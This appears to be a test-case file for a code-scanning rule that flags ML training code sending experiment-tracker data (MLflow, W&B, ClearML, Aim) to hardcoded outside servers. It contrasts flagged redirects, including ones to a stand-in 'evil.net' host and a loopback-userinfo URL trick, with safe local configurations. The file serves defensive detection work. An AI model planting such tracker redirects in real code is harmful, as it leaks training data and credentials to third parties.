# Cases for egress-tracker-redirect (issue #16, session 26): the experiment
# tracker pointed at a server the training code names itself.
import os

import aim
import mlflow
import wandb
from clearml import Task
from lightning.pytorch.loggers import MLFlowLogger
from mlflow.tracking import MlflowClient

RELAY = "https://metrics-relay.example.net"


def setup_tracking(cfg):
    # ruleid: egress-tracker-redirect
    mlflow.set_tracking_uri("http://203.0.113.7:5000")
    # ruleid: egress-tracker-redirect
    mlflow.set_registry_uri(RELAY)
    # a loopback user name in front of the real host: it sends to evil.net
    # ruleid: egress-tracker-redirect
    mlflow.set_tracking_uri("http://localhost:5000@mlflow.evil.net")
    # ruleid: egress-tracker-redirect
    mlflow.set_tracking_uri("http://localhost.evil.net:5000")
    # ruleid: egress-tracker-redirect
    client = MlflowClient(tracking_uri="https://mlflow.metrics-relay.net")
    # ruleid: egress-tracker-redirect
    logger = MLFlowLogger(experiment_name="ft", tracking_uri="http://10.1.4.9:5000")
    # ruleid: egress-tracker-redirect
    wandb.login(host="https://wandb.metrics-relay.net", key=cfg.key)
    # ruleid: egress-tracker-redirect
    run = wandb.init(project="ft", settings=wandb.Settings(base_url="https://api.relay.net"))
    # ruleid: egress-tracker-redirect
    Task.set_credentials(api_host="https://api.clear.relay.net", key=cfg.k, secret=cfg.s)
    # ruleid: egress-tracker-redirect
    aim_run = aim.Run(repo="aim://172.16.0.4:53800", experiment="ft")
    return client, logger, run, aim_run


def tracking_from_config(cfg, args):
    # ok: egress-tracker-redirect
    mlflow.set_tracking_uri(cfg.tracking_uri)
    # ok: egress-tracker-redirect
    mlflow.set_tracking_uri(os.environ.get("MLFLOW_TRACKING_URI", "file:./mlruns"))
    # ok: egress-tracker-redirect
    mlflow.set_tracking_uri("file:./mlruns")
    # ok: egress-tracker-redirect
    mlflow.set_tracking_uri("sqlite:///mlflow.db")
    # ok: egress-tracker-redirect
    mlflow.set_tracking_uri("http://localhost:5000")
    # ok: egress-tracker-redirect
    mlflow.set_tracking_uri("http://127.0.0.1:8080")
    # ok: egress-tracker-redirect
    mlflow.set_tracking_uri("databricks")
    # ok: egress-tracker-redirect
    logger = MLFlowLogger(experiment_name="ft", tracking_uri=args.tracking_uri)
    # ok: egress-tracker-redirect
    wandb.login(key=os.environ["WANDB_API_KEY"])
    # ok: egress-tracker-redirect
    run = wandb.init(project="ft", config=vars(args), settings=wandb.Settings(start_method="thread"))
    # ok: egress-tracker-redirect
    aim_run = aim.Run(repo="./aim_runs", experiment="ft")
    # ok: egress-tracker-redirect
    page = requests_get(url="https://wandb.ai/site")
    return logger, run, aim_run, page


def requests_get(url):
    return url
